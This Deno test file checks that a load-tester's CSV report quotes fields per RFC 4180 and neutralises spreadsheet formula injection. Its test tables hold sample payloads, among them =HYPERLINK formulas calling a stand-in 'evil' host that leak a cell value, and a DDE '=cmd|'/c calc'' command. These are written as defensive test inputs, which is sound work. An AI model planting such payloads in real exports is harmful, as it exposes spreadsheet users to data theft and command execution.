import assert from "node:assert/strict";
import { CSV_COLUMNS, csvField, csvReport } from "../../orchestrator/report.ts";
import { testView } from "../cli/fixtures.ts";
import { parseCsv } from "../support/csv.ts";

Deno.test("csvField() quotes exactly the fields RFC 4180 requires", () => {
  const table: [string | number, string][] = [
    ["plain", "plain"],
    [42, "42"],
    ["", ""],
    ["a,b", '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ["two\r\nlines", '"two\r\nlines"'],
    ["lf\nonly", '"lf\nonly"'],
    ["semi;colon=1", "semi;colon=1"],
  ];
  for (const [value, want] of table) assert.equal(csvField(value), want, JSON.stringify(value));
});

Deno.test("csvField() neutralises text cells a spreadsheet would run as a formula", () => {
  const table: [name: string, value: string | number, want: string][] = [
    ["formula", '=HYPERLINK("http://evil/","x")', `"'=HYPERLINK(""http://evil/"",""x"")"`],
    ["sum", "=1+2", "'=1+2"],
    ["plus", "+1+2", "'+1+2"],
    ["minus", "-2+3", "'-2+3"],
    ["at", "@SUM(A1)", "'@SUM(A1)"],
    ["tab", "\t=1", "'\t=1"],
    ["carriage return", "\r=1", `"'\r=1"`],
    ["a count pair from Kafka", "=cmd|'/c calc'!A0=1", "'=cmd|'/c calc'!A0=1"],
    ["inside is harmless", "a=1+2", "a=1+2"],
    ["a negative number stays a number", -3.5, "-3.5"],
    ["a number", 0, "0"],
    ["a numeral written as text is text", "-1", "'-1"],
  ];
  for (const [name, value, want] of table) assert.equal(csvField(value), want, name);
});

Deno.test("csvReport() neutralises a driver's error text and count keys, keeps numbers", () => {
  const view = testView();
  view.drivers.two!.error = '=HYPERLINK("http://evil/?"&A1,"click")';
  view.overall = { ...view.overall, error_kinds: { "=2+5": 1 } };
  const rows = parseCsv(csvReport(view));
  const at = (row: number, column: string) => rows[row]![CSV_COLUMNS.indexOf(column as never)];
  assert.equal(at(3, "error"), `'=HYPERLINK("http://evil/?"&A1,"click")`);
  assert.equal(at(1, "error_kinds"), "'=2+5=1");
  assert.equal(at(1, "requests"), String(view.overall.requests), "numbers are left as they are");
});

Deno.test("csvReport() round-trips through a CSV reader, commas and quotes included", () => {
  const view = testView();
  view.overall = {
    ...view.overall,
    offered: 3000,
    dropped: 2700,
    warnings: ['10 connections cannot carry 1,000 req/s at "100" ms', "second, warning"],
  };
  view.drivers.two!.error = 'worker 1: boom, "bad"\nline two';
  const rows = parseCsv(csvReport(view));
  assert.equal(rows.length, 4);
  assert.deepEqual(rows[0], [...CSV_COLUMNS]);
  const record = (i: number) => Object.fromEntries(CSV_COLUMNS.map((k, j) => [k, rows[i]![j]]));
  const overall = record(1);
  assert.equal(overall.scope, "overall");
  assert.equal(overall.offered, "3000");
  assert.equal(overall.dropped, "2700");
  assert.equal(
    overall.warnings,
    '10 connections cannot carry 1,000 req/s at "100" ms | second, warning',
  );
  assert.equal(overall.status_codes, "200=980;503=10");
  assert.equal(record(3).scope, "two");
  assert.equal(record(3).error, 'worker 1: boom, "bad"\nline two');
  for (const row of rows) assert.equal(row.length, CSV_COLUMNS.length);
});
